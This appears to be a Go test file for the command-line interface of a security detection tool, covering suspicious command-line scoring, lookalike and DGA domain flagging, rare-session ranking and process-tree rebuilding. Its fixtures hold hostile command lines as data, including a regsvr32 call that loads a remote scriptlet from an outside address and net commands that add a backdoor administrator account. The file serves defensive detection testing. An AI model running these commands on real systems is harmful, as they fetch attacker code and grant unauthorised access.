package cli

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hunchsec/hunch/internal/testcorpus"
)

func TestAnalyzeCmdline(t *testing.T) {
	code, out, errOut := runHunch(t, "", "analyze", "cmdline", "--min-score", "20", "-o", "csv", "--columns", "cmdline_score,cmdline_rules", "../../examples/events.ndjson")
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if lines[0] != "cmdline_score,cmdline_rules" || len(lines) < 12 {
		t.Fatalf("output:\n%s", out)
	}
	if !strings.Contains(out, "60,\"encoded_command\nhidden_window\npolicy_bypass\"") { // a list cell holds one value per line
		t.Errorf("no encoded launcher in:\n%s", out)
	}
	in := `{"cmd":"regsvr32 /s /n /u /i:http://203.0.113.5/file.sct scrobj.dll"}` + "\n" + `{"cmd":"notepad.exe notes.txt"}` + "\n"
	code, out, _ = runHunch(t, in, "analyze", "cmdline", "-f", "cmd", "-o", "ndjson", "--columns", "cmdline_score,cmdline_rules")
	if code != ExitOK || out != `{"cmdline_score":25,"cmdline_rules":["lolbin_execution"]}`+"\n"+`{"cmdline_score":0,"cmdline_rules":[]}`+"\n" {
		t.Errorf("exit %d:\n%s", code, out)
	}
	if code, _, errOut := runHunch(t, "", "analyze", "cmdline", "--min-score", "200"); code != ExitUsage || !strings.Contains(errOut, "want 0–100") {
		t.Errorf("bad --min-score: exit %d %s", code, errOut)
	}
}

func TestAnalyzeDomains(t *testing.T) {
	watch := filepath.Join(t.TempDir(), "watch.txt")
	os.WriteFile(watch, []byte("# ours\nexample.com\n\nexamplebank.co.uk\n"), 0o644)
	in := `{"value":"examp1e.com"}` + "\n" + `{"value":"login.example.com"}` + "\n" + `{"value":"examplebank.com"}` + "\n" +
		`{"value":"qjbfxnkwuo.info"}` + "\n" + `{"value":"wikipedia.org"}` + "\n" + `{"other":"x"}` + "\n"
	code, out, errOut := runHunch(t, in, "analyze", "domains", "--watch-file", watch, "-o", "ndjson", "--columns", "value,lookalike_of,lookalike_kind")
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	want := `{"value":"examp1e.com","lookalike_of":"example.com","lookalike_kind":"homoglyph"}
{"value":"login.example.com","lookalike_of":"","lookalike_kind":""}
{"value":"examplebank.com","lookalike_of":"examplebank.co.uk","lookalike_kind":"tld_swap"}
{"value":"qjbfxnkwuo.info","lookalike_of":"","lookalike_kind":""}
{"value":"wikipedia.org","lookalike_of":"","lookalike_kind":""}
{"lookalike_of":"","lookalike_kind":""}
`
	if out != want {
		t.Errorf("got\n%s\nwant\n%s", out, want)
	}
	code, out, _ = runHunch(t, in, "analyze", "domains", "--watch", "example.com", "--flagged", "-o", "csv", "--columns", "value,dga_score")
	if code != ExitOK || out != "value,dga_score\nexamp1e.com,0.3\nexamplebank.com,0\nqjbfxnkwuo.info,0.5\n" {
		t.Errorf("--flagged: exit %d\n%s", code, out)
	}
	if code, _, errOut := runHunch(t, "", "analyze", "domains", "--min-dga", "2"); code != ExitUsage || !strings.Contains(errOut, "want 0–1") {
		t.Errorf("bad --min-dga: exit %d %s", code, errOut)
	}
	if code, _, errOut := runHunch(t, "", "analyze", "domains", "--watch-file", "/nonexistent"); code != ExitFailure || !strings.Contains(errOut, "--watch-file") {
		t.Errorf("missing watch file: exit %d %s", code, errOut)
	}
}

func TestAnalyzeSessions(t *testing.T) {
	var in strings.Builder
	t0 := time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC)
	ev := func(user string, at time.Time, cmd string) {
		fmt.Fprintf(&in, `{"User":%q,"UtcTime":%q,"CommandLine":%q}`+"\n", user, at.Format("2006-01-02 15:04:05.000"), cmd)
	}
	habits := [][]string{
		{`"C:\Windows\explorer.exe"`, `"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"`},
		{`"C:\Windows\explorer.exe"`, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer`, `"C:\Windows\System32\notepad.exe" notes.txt`},
		{`"C:\Windows\System32\cmd.exe" /c ipconfig /all`, `"C:\Windows\System32\PING.EXE" -n 4 intranet`},
	}
	for i := range 120 {
		start := t0.Add(time.Duration(i) * 2 * time.Hour)
		for j, c := range habits[i%len(habits)] {
			ev(fmt.Sprintf("user%d", i%7), start.Add(time.Duration(j)*time.Minute), c)
		}
	}
	planted := t0.Add(-24 * time.Hour)
	for j, c := range []string{`whoami /all`, `net user mallory P@ssw0rd /add`, `net localgroup administrators mallory /add`} {
		ev("helpdesk", planted.Add(time.Duration(j)*time.Minute), c)
	}
	code, out, errOut := runHunch(t, in.String(), "analyze", "sessions", "--level", "cmds", "-o", "ndjson", "--columns", "rank,key,events,rarest_window")
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	rows := ndjsonRows(t, out)
	if len(rows) != 121 || rows[0]["key"] != "helpdesk" || fmt.Sprint(rows[0]["rarest_window"]) != "[whoami net]" {
		t.Errorf("%d sessions; first %v", len(rows), rows[0])
	}
	if code, _, errOut := runHunch(t, in.String(), "analyze", "sessions", "--max-events", "10"); code != ExitFailure || !strings.Contains(errOut, "too many events") {
		t.Errorf("--max-events: exit %d %s", code, errOut)
	}
	if code, _, errOut := runHunch(t, "", "analyze", "sessions", "--level", "deep"); code != ExitUsage || !strings.Contains(errOut, "want cmds, params or values") {
		t.Errorf("--level: exit %d %s", code, errOut)
	}
}

func TestAnalyzeProctree(t *testing.T) {
	path := testcorpus.Path(t, "logs/evtx/DeepBlueCLI__powersploit-security.evtx")
	code, out, errOut := runHunch(t, "", "analyze", "proctree", "--text", "--width", "30", "--process", "whoami", path)
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	// The Empire launcher: cmd runs the batch file, which starts the encoded PowerShell, whose
	// child PowerShell runs whoami.
	for _, want := range []string{"? (2616) [inferred]\n", "\n  cmd.exe (2444)  \"C:\\Windows\\System32\\cmd.exe\" …\n",
		"\n    powershell.exe (284)  powershell.exe  -NoP -sta -Non…\n", "\n        whoami.exe (3160)  "} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q in\n%s", want, out)
		}
	}
	code, out, _ = runHunch(t, "", "analyze", "proctree", "-o", "ndjson", "--columns", "depth,pid,inferred", path)
	rows := ndjsonRows(t, out)
	inferred := 0
	for _, r := range rows {
		if r["inferred"] == true {
			inferred++
		}
	}
	if code != ExitOK || len(rows) != 32 || inferred != 6 || rows[0]["depth"] != 0.0 {
		t.Errorf("exit %d, %d nodes, %d inferred, first %v", code, len(rows), inferred, rows[0])
	}
}
